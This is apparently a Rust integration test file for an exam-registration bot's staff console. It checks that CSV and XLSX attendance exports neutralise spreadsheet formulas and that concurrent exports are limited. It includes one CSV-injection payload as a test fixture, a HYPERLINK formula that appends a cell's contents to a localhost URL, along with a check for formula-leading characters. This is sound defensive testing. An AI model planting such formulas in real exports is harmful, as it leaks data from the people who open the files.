//! Attendance exports as an attacker and a crowd of staff would meet them: a spreadsheet
//! formula in a registry name comes out as text (security review finding 8), and a
//! process runs at most `EXPORTS_AT_ONCE` exports at once (finding 18).

use std::io::Cursor;
use std::time::Duration;

use ent_bot::i18n::Locale;
use reqwest::StatusCode;

use crate::console::{console_app, console_app_with, paid_applicant, sign_in};
use crate::helpers::TestApp;
use crate::payments::{first_slot, hold_seat, kaspi_pay, offer, order_of, status_of};

/// What the reviewer put in the registry: Excel runs it when the CSV is opened.
const FORMULA: &str = r#"=HYPERLINK("http://127.0.0.1/x?"&A1,"click")"#;

/// An applicant whose registry surname is a formula: onboarded by chat, a seat booked,
/// paid through Kaspi's endpoint. Returns the application id.
async fn paid_formula_applicant(app: &TestApp, id: u64) -> i64 {
    let user = app.user(id, None);
    let birth = chrono::NaiveDate::from_ymd_opt(2008, 3, 15).unwrap();
    let iin = app.add_person(id, birth, FORMULA, "Айгерім", Some("Нұрланқызы")).await;
    let email = format!("user{id}@mail.kz");
    user.send("/start").await.press("Русский").await;
    user.send(&email).await;
    let code = app.smtp.last_code_for(&email);
    user.send(&code).await;
    user.send(&iin).await;
    let yes = user.buttons().into_iter().next().expect("a Yes button");
    user.press(&yes).await;
    user.tap(&user.keyboard()[0]).await;
    let application = hold_seat(app, &user, first_slot(app).await).await;
    offer(app, &user, Locale::Ru, application).await;
    user.press("Kaspi").await;
    let order = order_of(app, application, "kaspi").await;
    let paid = kaspi_pay(app, &order, "8801001", "5640.00").await;
    assert_eq!(paid["result"], 0, "{paid}");
    assert_eq!(status_of(app, application).await, "paid");
    application
}

fn csv_rows(bytes: &[u8]) -> Vec<Vec<String>> {
    assert!(bytes.starts_with("\u{feff}".as_bytes()), "a BOM first");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..])
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

/// No cell a spreadsheet would read as a formula (OWASP's list of first characters).
fn assert_no_formula(rows: &[Vec<String>]) {
    for row in rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a live formula cell {cell:?} in {row:?}"
            );
        }
    }
}

#[tokio::test]
async fn a_formula_in_a_registry_name_is_exported_as_text_by_the_console_and_the_cli() {
    let (app, _, operator) = console_app().await;
    let application = paid_formula_applicant(&app, 7101).await;
    let (name, phone): (String, String) =
        sqlx::query_as("SELECT a.full_name, a.phone FROM applicants a JOIN applications p ON p.applicant_id = a.id WHERE p.id = $1")
            .bind(application)
            .fetch_one(app.pool())
            .await
            .unwrap();
    assert!(name.starts_with(FORMULA), "{name}");
    let browser = sign_in(&app, &operator).await;

    let (status, csv) = browser.get_bytes("/console/exports/download?format=csv").await;
    assert_eq!(status, StatusCode::OK);
    let rows = csv_rows(&csv);
    let row = rows.iter().find(|r| r[10] == application.to_string()).expect("the paid application is listed");
    assert_eq!(row[5], format!("'{name}"), "the name is kept, behind a quote that makes it text");
    assert_no_formula(&rows);
    // The attendance list carries neither phone nor email: the venue's door list needs neither.
    let text = String::from_utf8_lossy(&csv);
    assert!(!text.contains(&phone) && !text.contains(&phone[1..]), "no phone in the list");

    // XLSX cells are strings, never formulas: the name stays exactly as in the registry.
    let (status, xlsx) = browser.get_bytes("/console/exports/download?format=xlsx").await;
    assert_eq!(status, StatusCode::OK);
    use calamine::Reader;
    let mut book: calamine::Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(xlsx)).unwrap();
    let range = book.worksheet_range("Список явки").unwrap();
    let cell = range.rows().find(|r| r[10].to_string() == application.to_string()).unwrap()[5].clone();
    assert_eq!(cell, calamine::Data::String(name.clone()));
    assert!(book.worksheet_formula("Список явки").unwrap().used_cells().next().is_none(), "no formulas");

    // The command line writes the same CSV.
    let code: String = sqlx::query_scalar("SELECT code FROM campaigns").fetch_one(app.pool()).await.unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_ent-bot"))
        .args(["export", "applications", "--campaign", &code, "--format", "csv"])
        .env("DATABASE_URL", &app.db.url)
        .env_remove("BOT_TOKEN")
        .current_dir(std::env::temp_dir())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let rows = csv_rows(&out.stdout);
    let row = rows.iter().find(|r| r[10] == application.to_string()).expect("listed by the CLI too");
    assert_eq!(row[5], format!("'{name}"));
    assert_no_formula(&rows);
}

/// Polls until `sql` (a count) is positive.
async fn wait_for(app: &TestApp, what: &str, sql: &str) {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let n: i64 = sqlx::query_scalar(sql).fetch_one(app.pool()).await.unwrap();
        if n > 0 {
            return;
        }
        assert!(tokio::time::Instant::now() < deadline, "{what} did not happen");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn an_export_beyond_exports_at_once_is_refused_in_the_staff_language_until_one_ends() {
    let (app, _, operator) = console_app_with(&[("EXPORTS_AT_ONCE", "1")]).await;
    let (_, first_id, _) = paid_applicant(&app, 7001).await;
    let (_, second_id, _) = paid_applicant(&app, 7002).await;
    let browser = sign_in(&app, &operator).await;

    // One export held open at the database: its query waits for a lock this test holds,
    // as a long export of a whole campaign would still be running.
    let mut lock = app.pool().begin().await.unwrap();
    sqlx::query("LOCK TABLE subjects IN ACCESS EXCLUSIVE MODE").execute(&mut *lock).await.unwrap();
    let held = browser.clone();
    let first = tokio::spawn(async move { held.get_bytes("/console/exports/download?format=csv").await });
    wait_for(
        &app,
        "the first export waiting for its rows",
        "SELECT count(*) FROM pg_stat_activity
         WHERE datname = current_database() AND wait_event_type = 'Lock' AND query LIKE '%row_number()%'",
    )
    .await;

    // The second is turned away at once (not queued behind the first), and says why.
    let (status, page) =
        tokio::time::timeout(Duration::from_secs(30), browser.get("/console/exports/download?format=xlsx"))
            .await
            .expect("the second export is answered while the first still runs, not queued behind it");
    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{page}");
    assert!(page.contains("Сейчас уже готовится другая выгрузка"), "{page}");
    assert!(page.contains(r#"action="/console/exports/download""#), "the form is there to try again");

    // The first goes on to the end, whole.
    lock.rollback().await.unwrap();
    let (status, csv) = first.await.unwrap();
    assert_eq!(status, StatusCode::OK);
    let rows = csv_rows(&csv);
    assert_eq!(rows.len(), 3, "{rows:?}");
    assert_eq!(rows[1][10], first_id.to_string());
    assert_eq!(rows[2][10], second_id.to_string());

    // Then the slot is free again.
    let (status, xlsx) = browser.get_bytes("/console/exports/download?format=xlsx").await;
    assert_eq!(status, StatusCode::OK);
    assert!(xlsx.starts_with(b"PK"), "an XLSX");
}
